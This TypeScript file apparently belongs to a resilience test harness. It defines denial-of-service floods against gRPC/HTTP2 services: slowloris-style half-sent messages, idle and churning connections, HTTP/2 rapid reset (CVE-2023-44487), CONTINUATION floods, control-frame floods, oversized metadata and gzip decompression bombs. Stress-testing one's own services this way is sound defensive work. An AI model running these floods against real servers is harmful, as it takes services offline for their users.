/** Floods of callers without any account that leave something open, or misuse HTTP/2. */

import type { ClientHttp2Session } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { encodeFields } from '../shared/hpack.js';
import { FLAG, FRAME, frame, headerFrames, settings, uint32 } from '../shared/http2-frames.js';
import { headersOf, messageOf } from '../shared/wire.js';
import type { Attack, RawConnection } from './attack.js';
import type { Flood } from './flood.js';

const LOGIN = '/auth.v1.AuthService/Login';
const HEALTH_CHECK = '/grpc.health.v1.Health/Check';
const HEALTH_WATCH = '/grpc.health.v1.Health/Watch';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';

/** The length that a half-sent message announces: as much as a message may have. */
const ANNOUNCED_BYTES = 4 * 1024 * 1024 - 1;
const SENT_BYTES = 3_900_000;
const BOMB_BYTES = 100 * 1024 * 1024;
const CANCEL = uint32(8);

/** A message prefix that announces so many bytes. */
function prefixOf(bytes: number): Buffer {
  return Buffer.concat([Buffer.from([0]), uint32(bytes)]);
}

/** Opens streams on many connections, at one service after another, and sends the same bytes on each. */
async function openMany(
  attack: Attack,
  options: {
    readonly connections: number;
    readonly streams: number;
    readonly path: string;
    readonly bytes: Buffer;
    readonly targets?: readonly string[];
  },
): Promise<void> {
  const { connections, streams, path, bytes, targets = attack.everywhere } = options;
  const sessions: ClientHttp2Session[] = [];
  await attack.repeat({ perSecond: 1_000, atOnce: 1_000, most: connections * streams }, async (index) => {
    const which = index % connections;
    sessions[which] ??= attack.connect(targets[which % targets.length] ?? '', attack.strange(which));
    const session = sessions[which];
    if (session !== undefined) attack.open(session, path)?.write(bytes);
    await sleep(0);
  });
  await attack.hold();
}

/** Sends frames over raw connections, which are opened again when the server closes them. */
async function sendFrames(
  attack: Attack,
  perSecond: number,
  frames: (stream: number) => readonly Buffer[],
): Promise<void> {
  const open = new Map<number, { connection: RawConnection; stream: number }>();
  const targets = attack.everywhere;
  await attack.repeat({ perSecond, atOnce: 8, most: perSecond * 20 }, async (index) => {
    const which = index % 8;
    let slot = open.get(which);
    if (slot === undefined || !slot.connection.isOpen) {
      slot = {
        connection: attack.openRaw(targets[which % targets.length] ?? '', attack.strange(which)),
        stream: 1,
      };
      open.set(which, slot);
    }
    const { connection, stream } = slot;
    slot.stream += 2;
    attack.count('sent');
    await connection.write(...frames(stream));
  });
}

/** A thousand frames a step, so that the pace of the steps does not bound their number. */
function times(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

export const CONNECTION_FLOODS: readonly Flood[] = [
  {
    name: 'half-sent-large',
    attacker: 'stranger',
    title: 'one connection, 250 requests to public methods with 3.9 of 4 MB sent',
    run: async (attack) => {
      const { auth, inventory } = attack.input.addresses;
      const sessions = [auth, inventory[0]].map((to) => attack.connect(to, attack.strange(0)));
      const bytes = Buffer.concat([prefixOf(ANNOUNCED_BYTES), Buffer.alloc(SENT_BYTES)]);
      await attack.repeat({ perSecond: 50, atOnce: 250, most: 250 }, async (index) => {
        const [one, other] = sessions;
        const session = index % 5 === 0 ? other : one;
        if (session === undefined) return;
        const path = index % 5 === 1 ? LOGIN : HEALTH_CHECK;
        attack.open(session, path)?.write(bytes, () => attack.count('half sent'));
        await sleep(0);
      });
      await attack.hold();
    },
  },
  {
    name: 'half-sent-many',
    attacker: 'stranger',
    title: '3,600 requests over 40 connections of which a few bytes are sent',
    run: (attack) =>
      openMany(attack, { connections: 40, streams: 90, path: HEALTH_CHECK, bytes: prefixOf(1_000) }),
  },
  {
    name: 'half-sent-logins',
    attacker: 'stranger',
    title: '3,000 logins over 60 connections whose message never ends',
    run: (attack) =>
      openMany(attack, {
        connections: 60,
        streams: 50,
        path: LOGIN,
        bytes: Buffer.concat([prefixOf(300), Buffer.alloc(200)]),
        targets: [attack.input.addresses.auth],
      }),
  },
  {
    name: 'health-watches',
    attacker: 'stranger',
    title: '4,000 Health/Watch streams over 40 connections',
    run: (attack) =>
      openMany(attack, {
        connections: 40,
        streams: 100,
        path: HEALTH_WATCH,
        bytes: messageOf(Buffer.alloc(0)),
      }),
  },
  {
    name: 'reflection-streams',
    attacker: 'stranger',
    title: 'reflection streams that ask for the largest file again and again',
    run: async (attack) => {
      const symbol = Buffer.from('auth.v1.AuthService');
      // file_containing_symbol is field 4 of ServerReflectionRequest.
      const question = messageOf(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));
      const sessions = attack.everywhere.map((to, index) => attack.connect(to, attack.strange(index)));
      const streams = sessions.flatMap((session) =>
        Array.from({ length: 25 }, () => attack.open(session, REFLECTION)),
      );
      await attack.repeat({ perSecond: 2_000, atOnce: 200, most: 20_000 }, async (index) => {
        const stream = streams[index % streams.length];
        if (stream?.writable === true) await new Promise((resolve) => void stream.write(question, resolve));
      });
    },
  },
  {
    name: 'idle-connections',
    attacker: 'stranger',
    title: '4,000 connections that send nothing after the preface, or nothing at all',
    run: async (attack) => {
      await attack.repeat({ perSecond: 800, atOnce: 800, most: 4_000 }, (index) => {
        const to = attack.everywhere[index % attack.everywhere.length] ?? '';
        const from = attack.strange(index % 40);
        if (index % 2 === 0) attack.openRaw(to, from);
        else attack.openText(to, '', { from, read: true });
      });
      await attack.hold();
    },
  },
  {
    name: 'connection-churn',
    attacker: 'stranger',
    title: 'connections that are opened and closed at once',
    run: (attack) =>
      attack.repeat({ perSecond: 500, atOnce: 100, most: 10_000 }, async (index) => {
        const to = attack.everywhere[index % attack.everywhere.length] ?? '';
        const connection = attack.openRaw(to, attack.strange(index % 40));
        await sleep(20);
        connection.close();
      }),
  },
  {
    name: 'rapid-reset',
    attacker: 'stranger',
    title: 'streams that are opened and reset in the same packet (CVE-2023-44487)',
    run: (attack) =>
      sendFrames(attack, 200, (stream) =>
        Array.from({ length: 50 }, (_, index) => {
          const id = 100 * stream + 2 * index + 1;
          return Buffer.concat([
            headerFrames(id, headersOf(HEALTH_CHECK), false),
            frame(FRAME.reset, 0, id, CANCEL),
          ]);
        }),
      ),
  },
  {
    name: 'continuations',
    attacker: 'stranger',
    title: 'header blocks that never end (CONTINUATION)',
    run: (attack) => {
      const part = encodeFields([['x', 'y'.repeat(1_000)]]);
      return sendFrames(attack, 200, (stream) => [
        frame(FRAME.headers, 0, stream, headersOf(HEALTH_CHECK)),
        times(10, () => frame(FRAME.more, 0, stream, part)),
      ]);
    },
  },
  {
    name: 'control-frames',
    attacker: 'stranger',
    title: 'SETTINGS, PING, WINDOW_UPDATE and empty DATA frames by the thousand',
    run: (attack) =>
      sendFrames(attack, 40, (stream) => [
        times(250, () => frame(FRAME.settings, 0, 0, settings([4, 65_535]))),
        times(250, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
        times(250, () => frame(FRAME.window, 0, 0, uint32(1))),
        headerFrames(stream, headersOf(HEALTH_CHECK), false),
        times(250, () => frame(FRAME.data, 0, stream, Buffer.alloc(0))),
        frame(FRAME.data, FLAG.endStream, stream, messageOf(Buffer.alloc(0))),
      ]),
  },
  {
    name: 'huge-metadata',
    attacker: 'stranger',
    title: 'requests with as much metadata as a header block may have',
    run: (attack) =>
      attack.repeat({ perSecond: 300, atOnce: 100, most: 6_000 }, async (index) => {
        const metadata = Array.from({ length: 90 }, (_, header) => [`x-${header}`, 'y'.repeat(60)] as const);
        const to = attack.everywhere[index % attack.everywhere.length] ?? '';
        await attack.send({ to, path: HEALTH_CHECK, from: attack.strange(index % 20), metadata });
      }),
  },
  {
    name: 'compressed-bombs',
    attacker: 'stranger',
    title: 'messages of 100 kB that decompress to 100 MB',
    run: async (attack) => {
      const bomb = gzipSync(Buffer.alloc(BOMB_BYTES), { level: 9 });
      const bytes = Buffer.concat([Buffer.from([1]), uint32(bomb.length), bomb]);
      const sessions = attack.everywhere.map((to, index) => attack.connect(to, attack.strange(index)));
      await attack.repeat({ perSecond: 20, atOnce: 40, most: 400 }, async (index) => {
        const session = sessions[index % sessions.length];
        if (session === undefined) return;
        attack.count('sent');
        const path = index % sessions.length === 0 ? LOGIN : HEALTH_CHECK;
        const stream = attack.open(session, path, { 'grpc-encoding': 'gzip' });
        await new Promise<void>((resolve) => {
          stream?.once('close', resolve);
          stream?.end(bytes);
        });
      });
    },
  },
];
